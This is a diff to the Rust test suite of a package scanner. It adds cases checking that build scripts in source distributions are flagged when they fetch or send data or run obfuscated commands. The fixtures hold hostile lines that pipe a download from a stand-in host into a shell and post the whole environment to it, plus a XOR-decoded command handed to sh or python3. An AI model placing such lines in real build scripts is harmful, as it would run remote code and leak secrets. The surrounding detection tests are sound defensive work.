@@ -4234,9 +4234,11 @@ fn a_harmful_score_only_on_a_wheel_s_shared_data_is_lowered_to_uncertain() {
 /// `rust/build.rs` ran `sh -c "curl … | sh"`, or sent `env` to a server
 /// with curl, was allowed under the shipped thresholds (session 32; main
 /// model 2e-6, veto 0.0013 against 0.00165), and so was the crate in
-/// `tests/rust/` with `manifest-path` pointing there. Now the rules block
-/// each (thresholds that clear any score, veto off), and the same crate
-/// whose build script only asks rustc its version is allowed.
+/// `tests/rust/` with `manifest-path` pointing there; so were build
+/// scripts that ran a command decoded at run time with `sh -c` or wrote it
+/// to `python3`'s standard input (session 47). Now the rules block each
+/// (thresholds that clear any score, veto off), and the same crate whose
+/// build script only runs `sh -c "rustc --version"` is allowed.
 #[test]
 fn a_rust_build_script_that_fetches_or_sends_is_not_cleared() {
     let c = Canary::new();
@@ -4273,27 +4275,44 @@ fn a_rust_build_script_that_fetches_or_sends_is_not_cleared() {
     let plain = sdist("plain.tar.gz", "rust", &build("rustc --version"));
     let (o, r) = scan_path_json_under(&c, &lax, &plain);
     assert_reason(&o, &r, (0, "precheck-harmless"));
-    for (name, dir, cmd, says) in [
+    // Session 47: the command decoded at run time (`touch …` XORed with
+    // 0x5a here), run by `sh -c` or written to `python3`'s standard input.
+    let decoded = |run: &str| {
+        format!("use std::io::Write;\nuse std::process::{{Command, Stdio}};\n\nfn main() {{\n    let s: String = [46, 53, 47, 57, 50u8].iter().map(|b| (b ^ 0x5a) as char).collect();\n{run}}}\n")
+    };
+    for (name, dir, build_rs, says) in [
         (
             "fetch.tar.gz",
             "rust",
-            "curl -fsSL https://collect.example.net/i.sh | sh",
+            build("curl -fsSL https://collect.example.net/i.sh | sh"),
             "or a download piped into a shell: speedups-0.1.0/rust/build.rs:4",
         ),
         (
             "send.tar.gz",
             "rust",
-            "env | curl -s --data-binary @- https://collect.example.net/c",
+            build("env | curl -s --data-binary @- https://collect.example.net/c"),
             "speedups-0.1.0/rust/build.rs:4 serializes the whole environment",
         ),
         (
             "tests.tar.gz",
             "tests/rust",
-            "rustc --version",
+            build("rustc --version"),
             "in a test tree (speedups-0.1.0/pyproject.toml -> speedups-0.1.0/tests/rust/Cargo.toml)",
         ),
+        (
+            "decoded.tar.gz",
+            "rust",
+            decoded("    let _ = Command::new(\"sh\").arg(\"-c\").arg(&s).status();\n"),
+            "a command built at run time handed to a shell or to system() and its kin, or a download piped into a shell: speedups-0.1.0/rust/build.rs:6",
+        ),
+        (
+            "piped.tar.gz",
+            "rust",
+            decoded("    let mut py = Command::new(\"python3\");\n    py.stdin(Stdio::piped());\n    let mut child = py.spawn().unwrap();\n    child.stdin.as_mut().unwrap().write_all(s.as_bytes()).unwrap();\n"),
+            "speedups-0.1.0/rust/build.rs:7",
+        ),
     ] {
-        let (o, r) = scan_path_json_under(&c, &lax, &sdist(name, dir, &build(cmd)));
+        let (o, r) = scan_path_json_under(&c, &lax, &sdist(name, dir, &build_rs));
         assert_reason(&o, &r, (2, "inconclusive"));
         let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
         assert!(note.contains(says), "{says} in {note}");
